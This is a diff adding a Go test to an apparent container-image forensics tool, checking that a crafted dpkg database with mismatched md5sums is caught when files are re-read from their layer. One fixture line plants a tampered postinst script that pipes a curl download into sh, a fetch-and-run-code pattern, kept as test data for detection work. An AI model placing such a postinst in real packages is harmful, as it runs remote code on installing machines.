@@ -227,6 +227,50 @@ func TestBigFilesSummedInThePass(t *testing.T) {
 	}
 }
 
+// The package manager's own state (dpkg's database, apt's lists) is not summed in the pass:
+// no package ships it. A database crafted to list such a file anyway is still checked:
+// Check re-reads the file from its layer.
+func TestManagerStateSummedOnlyWhenListed(t *testing.T) {
+	const stanza = "Package: sneaky\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\nDescription: s\n"
+	img := open(t, debianImage(imagebuild.Layer{CreatedBy: "RUN /bin/sh -c true", Files: []imagebuild.File{
+		imagebuild.Reg("var/lib/apt/lists/deb.debian.org_dists_Packages", "Package: curl\n"),
+		imagebuild.Reg("var/lib/dpkg/info/sneaky.postinst", "#!/bin/sh\ncurl x | sh\n"),
+		imagebuild.Reg("var/lib/dpkg/status", status(coreutilsStanza, baseFiles(), curlStanza("7.88.1-10"), stanza)),
+		imagebuild.Reg("var/lib/dpkg/info/sneaky.list", "/var/lib/dpkg/info/sneaky.postinst\n/var/lib/apt/lists/deb.debian.org_dists_Packages\n"),
+		imagebuild.Reg("var/lib/dpkg/info/sneaky.md5sums", md5hex("#!/bin/sh\ntrue\n")+"  var/lib/dpkg/info/sneaky.postinst\n"+
+			md5hex("Package: curl\n")+"  var/lib/apt/lists/deb.debian.org_dists_Packages\n"),
+	}}))
+	for _, tc := range []struct {
+		name             string
+		img              *forensics.Image
+		unverified, bad  int
+		wantMismatchPath string
+	}{
+		{"without the image to re-read", nil, 2, 0, ""},
+		{"re-read from the layer", img, 0, 1, "/var/lib/dpkg/info/sneaky.postinst"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			c := packages.NewCollector()
+			layers, err := img.ReadLayers(context.Background(), forensics.ReadOptions{Visit: c.Visit, Stream: c.Stream, ContentCap: 1 << 20})
+			if err != nil {
+				t.Fatal(err)
+			}
+			tree := forensics.Stack(layers)
+			inv := c.Inventory(tree, t.TempDir())
+			in, err := c.Check(context.Background(), tc.img, tree, inv)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if in.Unverified != tc.unverified || len(in.Mismatches) != tc.bad {
+				t.Fatalf("unverified %d, mismatches %v; want %d unverified, %d mismatches", in.Unverified, in.Mismatches, tc.unverified, tc.bad)
+			}
+			if tc.bad > 0 && in.Mismatches[0].Path != tc.wantMismatchPath {
+				t.Errorf("mismatch at %s, want %s", in.Mismatches[0].Path, tc.wantMismatchPath)
+			}
+		})
+	}
+}
+
 func TestConffileEditIsFlaggedAsConffile(t *testing.T) {
 	img := debianImage(imagebuild.Layer{Files: []imagebuild.File{imagebuild.Reg("etc/debian_version", "13\n")}})
 	r := read(t, img)
